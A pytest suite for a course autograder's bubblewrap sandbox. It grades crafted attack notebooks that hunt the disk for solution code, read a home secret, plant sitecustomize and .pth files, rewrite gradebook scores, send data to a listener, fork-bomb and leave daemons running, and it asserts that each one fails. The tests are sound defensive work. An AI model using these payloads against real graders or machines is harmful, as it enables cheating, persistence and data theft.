"""The grading sandbox (issue 13): submissions that read, write, connect, overuse or outlive, graded in one run.

Every attack is a blank lesson 1 notebook plus the attack, graded together with an
honest student (one wrong answer: 7 of 10). Each attack must earn 0, the honest student
7; afterwards nothing an attack tried to write exists and none of its processes runs.
Then the network attack is graded once more with ``--no-sandbox``: it connects (so the
test can fail) and grades.csv and the feedback say there was no sandbox.

Without bubblewrap these tests skip; under ``COURSE_REQUIRE_SANDBOX=1`` (set by ``.ci/run``)
they fail.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import sysconfig
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest

from course_utils.grading import cli, command, sandbox
from course_utils.grading import notebooks as nb
from tests.grading import support as gs

LESSON, TIMEOUT, feedback_text, new_course = gs.ATTACK_LESSON, gs.TIMEOUT, gs.feedback_text, gs.attack_course

REQUIRE_ENV = "COURSE_REQUIRE_SANDBOX"
LIMITS = sandbox.Limits(processes=64, file_size=128 * 2**20)  # default memory (4 GiB)
MARKER = "course-sandbox-escape-marker"
FUNCTIONS = {"ex1-answer": "rank_by_dot_product", "ex2-answer": "forward_passes_per_query",
             "ex3-answer": "storage_bytes", "ex4-answer": "same_word_similarity"}


def require_sandbox() -> None:
    try:
        sandbox.check_available(LIMITS)
    except sandbox.SandboxUnavailable as error:
        if os.environ.get(REQUIRE_ENV) == "1":
            pytest.fail(f"{REQUIRE_ENV}=1 but no grading sandbox here: {error}")
        pytest.skip(f"no grading sandbox here: {error}")


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection made to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port, self.connections, self.stop = self.server.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while not self.stop:
            try:
                connection, _ = self.server.accept()
                self.connections.append(connection.recv(100))
                connection.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


def _with_cells(notebook, *sources: str, at_end: bool = False):
    cells = [nbformat.v4.new_code_cell(source) for source in sources]
    notebook.cells = notebook.cells + cells if at_end else cells + notebook.cells
    return notebook


def reading_attack(blank, course: Path, home_secret: Path):
    """Walk the disk for a notebook holding the solutions and run their code; read the gradebook and home."""
    steal = f"""import json, os
_solutions = []
for top in [os.getcwd(), os.path.expanduser('~'), {str(Path.home())!r}, {str(course)!r}, {str(gs.ROOT)!r}, '/tmp']:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ('.venv', '.git')]  # quicker: no notebooks there
        for file in files:
            try:
                cells = json.load(open(os.path.join(folder, file)))['cells'] if file.endswith('.ipynb') else []
            except Exception:
                continue
            _solutions += [''.join(c['source']) for c in cells if '### BEGIN SOLUTION' in ''.join(c['source'])]
def _steal(name):
    for text in _solutions:
        if f'def {{name}}(' in text:
            found = {{}}
            exec(text, found)
            print('STOLEN', name)
            return found[name]
for name, path in [('gradebook', {str(course / 'gradebook.db')!r}), ('home secret', {str(home_secret)!r}),
                   ('solutions', {str(gs.ROOT / 'solutions' / LESSON / f'{LESSON}.ipynb')!r})]:
    try:
        open(path, 'rb').read()
        print('READ', name)
    except OSError as error:
        print('COULD NOT READ', name, type(error).__name__)
"""
    notebook = _with_cells(blank, steal)
    for grade_id, function in FUNCTIONS.items():
        cell = next(c for c in notebook.cells if nb.nbgrader_info(c).get("grade_id") == grade_id)
        cell.source = (f"{function} = _steal({function!r})\nif {function} is None:\n"
                       "    raise NotImplementedError('found no solution to copy')\n")
    return notebook


def writing_targets(course: Path, submissions: Path) -> dict[str, Path]:
    site = Path(sysconfig.get_paths()["purelib"])
    return {"gradebook": course / "gradebook.db", "other student": submissions / "honest" / f"{LESSON}.ipynb",
            "course package": gs.ROOT / "course_utils" / "written_by_a_submission.py",
            "pth": site / "zz_written_by_a_submission.pth", "sitecustomize": site / "sitecustomize.py",
            "home": Path.home() / ".written_by_a_submission", "outer tmp": Path("/tmp/written_by_a_submission")}


def writing_attack(blank, targets: dict[str, Path]):
    code = f"""import sqlite3
for name, path in {({k: str(v) for k, v in targets.items()})!r}.items():
    try:
        with open(path, 'a') as file:
            file.write('import os  # written by a submission\\n')
        print('WROTE', name)
    except OSError as error:
        print('COULD NOT WRITE', name, type(error).__name__)
try:
    database = sqlite3.connect({str(targets['gradebook'])!r})
    database.execute('update grade set auto_score = 99')
    database.commit()
    print('WROTE gradebook scores')
except Exception as error:
    print('COULD NOT WRITE gradebook scores', type(error).__name__)
"""
    return _with_cells(blank, code)


def network_attack(blank, port: int):
    return _with_cells(blank, f"""import socket
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'leaked answers')
    print('CONNECTED')
except OSError as error:
    print('COULD NOT CONNECT', type(error).__name__)
""")


def limits_attack(blank):
    memory = "import numpy\nbig = numpy.ones(6 * 2**30 // 8)  # 6 GiB\nprint('ALLOCATED', big.nbytes)\n"
    disk = ("chunk = b'x' * 2**26\nwith open('big.bin', 'wb') as file:\n"
            "    for _ in range(32):  # 2 GiB\n        file.write(chunk)\nprint('WROTE 2 GiB')\n")
    forks = ("import os, time\nchildren = []\ntry:\n    while len(children) < 10_000:\n"
             "        pid = os.fork()\n        if pid == 0:\n            time.sleep(300)\n            os._exit(0)\n"
             "        children.append(pid)\nfinally:\n    print('FORKED', len(children))\n")
    return _with_cells(blank, memory, disk, forks, at_end=True)


def escaping_attack(blank):
    return _with_cells(blank, f"""import os, subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}-popen'], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}-daemon'])
    os._exit(0)
os.waitpid(pid, 0)
print('STARTED')
""")


def processes_left(scratch: Path) -> list[str]:
    """Command lines of running processes that an attack started (its marker), or a sandbox user's
    kernel of this grading (its files are in ``scratch``; other tests may grade at the same time)."""
    left = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            uid = entry.stat().st_uid
        except OSError:
            continue
        if MARKER in line or (uid >= sandbox.UID_BASE and str(scratch) in line):
            left.append(f"{entry.name} (uid {uid}): {line}")
    return left


def outputs(course: Path, student: str) -> str:
    notebook = nb.read(course / "autograded" / student / LESSON / f"{LESSON}.ipynb")
    return "\n".join(o.get("text", "") for c in notebook.cells if c.cell_type == "code" for o in c.outputs)


def _sha(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    require_sandbox()
    tmp = tmp_path_factory.mktemp("sandbox")
    course, submissions = new_course(tmp), tmp / "submissions"
    reference = gs.ROOT  # the committed student version: what nbgrader generates
    home_secret = Path.home() / ".course-sandbox-test-secret"
    targets = writing_targets(course, submissions)
    assert not any(path.exists() for name, path in targets.items() if name not in ("gradebook", "other student"))
    listener = Listener()
    blank = lambda: gs.student_notebook(reference, LESSON)  # noqa: E731
    students = {"honest": gs.solved_notebook(reference, LESSON, wrong={"ex3-answer"}),
                "reads": reading_attack(blank(), course, home_secret), "writes": writing_attack(blank(), targets),
                "network": network_attack(blank(), listener.port), "limits": limits_attack(blank()),
                "escapes": escaping_attack(blank())}
    gs.submissions_folder(submissions, students, LESSON)
    before = {name: _sha(path) for name, path in targets.items()}
    home_secret.write_text("the instructor's secret")
    scratch = Path(tempfile.mkdtemp(prefix="sbx-", dir="/tmp"))  # short: the kernels' sockets stay inside
    tempfile.tempdir, previous = str(scratch), tempfile.tempdir  # where grade makes its scratch folder
    try:
        outcome = command.grade(course, LESSON, submissions, jobs=2, timeout=TIMEOUT, echo=lambda *a: None,
                                sandbox_limits=LIMITS)
        after = {name: _sha(path) for name, path in targets.items()}
        left = processes_left(scratch)
        yield course, outcome, listener, before, after, left, targets
    finally:
        tempfile.tempdir = previous
        shutil.rmtree(scratch, ignore_errors=True)
        listener.close()
        home_secret.unlink(missing_ok=True)
        for name, path in targets.items():
            if name not in ("gradebook", "other student") and before[name] is None:
                path.unlink(missing_ok=True)  # only if an attack got through


def test_every_attack_earns_nothing_and_the_honest_student_is_unaffected(graded):
    course, outcome, *_ = graded
    assert not outcome.failed and not outcome.skipped, outcome
    assert gs.gradebook_scores(course, LESSON) == {
        "honest": 7.0, "reads": 0.0, "writes": 0.0, "network": 0.0, "limits": 0.0, "escapes": 0.0}


def test_reading_finds_no_solution_gradebook_or_home(graded):
    course, *_ = graded
    text = outputs(course, "reads")
    assert "STOLEN" not in text and not any(line.startswith("READ") for line in text.splitlines()), text
    for name in ("gradebook", "home secret", "solutions"):
        assert f"COULD NOT READ {name}" in text, text


def test_writing_outside_leaves_nothing(graded):
    course, _, _, before, after, _, targets = graded
    text = outputs(course, "writes")
    for name in targets:
        if name != "outer tmp":  # /tmp in the sandbox is its own, and it may write there
            assert f"COULD NOT WRITE {name}" in text, text
    assert "COULD NOT WRITE gradebook scores" in text, text
    assert after == {**before, "gradebook": after["gradebook"]}  # only grading itself changed the gradebook
    assert b"written by a submission" not in targets["gradebook"].read_bytes()


def test_no_network(graded):
    course, _, listener, *_ = graded
    assert "COULD NOT CONNECT" in outputs(course, "network")
    assert listener.connections == []


def test_limits_stop_their_cells_and_the_feedback_names_them(graded):
    course, *_ = graded
    text, feedback = outputs(course, "limits"), feedback_text(course, "limits")
    assert "ALLOCATED" not in text and "WROTE 2 GiB" not in text
    forked = int(text.split("FORKED")[1].split()[0])
    assert 0 < forked < LIMITS.processes
    for name in ("memory", "file_size", "processes"):
        assert f"reached {LIMITS.describe(name)}" in feedback, (name, feedback)
    big = course / "autograded" / "limits" / LESSON / "big.bin"
    assert not big.exists() or big.stat().st_size <= LIMITS.file_size


def test_nothing_outlives_the_grading(graded):
    course, _, _, _, _, left, _ = graded
    assert "STARTED" in outputs(course, "escapes")
    assert left == []


def test_without_the_sandbox_the_attack_works_and_is_recorded(graded, tmp_path):
    """The network test can fail: without the sandbox the same submission connects."""
    course, *_ = graded
    listener = Listener()
    try:
        folder = gs.submissions_folder(tmp_path / "again", {"unsandboxed": network_attack(
            gs.student_notebook(gs.ROOT, LESSON), listener.port)}, LESSON)
        outcome = command.grade(course, LESSON, folder, jobs=1, timeout=TIMEOUT, echo=lambda *a: None,
                                sandbox_limits=None)
    finally:
        listener.close()
    assert outcome.graded == ["unsandboxed"]
    assert listener.connections == [b"leaked answers"]
    assert "passed --no-sandbox" in feedback_text(course, "unsandboxed")
    rows = {row["student"]: row for row in csv.DictReader(command.write_csv(course).open())}
    assert rows["unsandboxed"]["status"].startswith("graded without sandbox (--no-sandbox)")
    assert rows["honest"]["status"] == "graded"
    record = json.loads((course / "autograded" / "honest" / LESSON / command.GRADING_RECORD).read_text())
    assert record["sandbox"] is True


def test_sizes_limits_and_options():
    assert sandbox.parse_size("4G") == 4 * 2**30 and sandbox.parse_size("512MiB") == 512 * 2**20
    assert sandbox.parse_size("1000") == 1000
    for bad in ("", "-1G", "lots", "0"):
        with pytest.raises(ValueError):
            sandbox.parse_size(bad)
    with pytest.raises(ValueError, match="processes"):
        sandbox.Limits(processes=0)
    with pytest.raises(TypeError, match="memory"):
        sandbox.Limits(memory=4.5)
    import argparse

    args = argparse.Namespace(no_sandbox=False, memory=2**30, max_processes=100, max_file_size=None)
    assert cli.sandbox_limits(args) == sandbox.Limits(memory=2**30, processes=100)
    assert cli.sandbox_limits(argparse.Namespace(no_sandbox=True)) is None
    with pytest.raises(ValueError, match="processes"):
        cli.sandbox_limits(argparse.Namespace(no_sandbox=False, memory=None, max_processes=0, max_file_size=None))


def test_grade_stops_before_grading_without_bubblewrap(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    course = new_course(tmp_path)
    with pytest.raises(sandbox.SandboxUnavailable, match="bubblewrap .* not installed.*--no-sandbox"):
        command.grade(course, LESSON, tmp_path / "nothing", echo=lambda *a: None)
    assert not (course / "gradebook.db").exists()


def test_a_course_copy_whose_venv_is_a_symlink_can_make_the_sandbox(tmp_path):
    """The sandbox mounts folders at their real paths: the link to the environment is made again inside it,
    and the kernel imports the copy's course package, not the one the shared environment was installed from."""
    import subprocess
    import sys

    require_sandbox()
    copy = tmp_path / "copy"
    shutil.copytree(gs.ROOT / "course_utils", copy / "course_utils", ignore=shutil.ignore_patterns("__pycache__"))
    (copy / ".venv").symlink_to(Path(sys.prefix))  # this test run's environment, shared by the copy
    probe = ("from course_utils.grading import sandbox; sandbox.check_available(sandbox.Limits()); "
             "import course_utils; print(course_utils.__file__)")
    run = subprocess.run([str(copy / ".venv" / "bin" / "python"), "-c", probe], cwd=copy, capture_output=True,
                         text=True, timeout=120)
    assert run.returncode == 0, run.stdout + run.stderr
    assert run.stdout.strip() == str(copy / "course_utils" / "__init__.py")


@pytest.mark.parametrize("cgroup", [True, False], ids=["memory cgroup", "address-space fallback"])
def test_shared_memory_counts_against_the_limit_with_or_without_a_cgroup(tmp_path, cgroup):
    """``mmap(-1, n)`` is shared memory, which RLIMIT_DATA alone does not count: with a memory cgroup the
    process is stopped when it touches too much; without one, RLIMIT_AS refuses the mapping."""
    import subprocess
    import sys

    from course_utils.grading import memory_cgroup

    require_sandbox()
    limits = sandbox.Limits(memory=2**30, processes=64, file_size=2**26)
    group = memory_cgroup.create(limits.memory, f"course-test-{os.getpid()}-{tmp_path.name}") if cgroup else None
    if cgroup and group is None:
        pytest.skip("this machine lets no process make a memory cgroup; the fallback is tested beside")
    work = tmp_path / "work"
    work.mkdir(mode=0o777)
    probe = ("import mmap\nsize = 3 * 2**29\nshared = mmap.mmap(-1, size)\n"
             "for offset in range(0, size, mmap.PAGESIZE):\n    shared[offset] = 1\nprint('TOUCHED')\n")
    uid = sandbox.UID_BASE + os.getpid() if os.geteuid() == 0 else None
    command = sandbox.bwrap_command([sys.executable, "-c", probe], limits, cwd=work, private=work, readable=[],
                                    uid=uid, address_space=group is None)
    if group is not None:
        command = [sys.executable, "-I", "-S", str(memory_cgroup.ENTER), str(group.procs), "--", *command]
    try:
        run = subprocess.run(command, capture_output=True, text=True, timeout=120,
                             env=sandbox.environment(dict(os.environ)))
        assert "TOUCHED" not in run.stdout and run.returncode != 0, (run.stdout, run.stderr)
        if group is not None:
            assert group.oom_kills() >= 1
        else:
            assert "Cannot allocate memory" in run.stderr or "MemoryError" in run.stderr, run.stderr
    finally:
        if group is not None:
            group.remove()
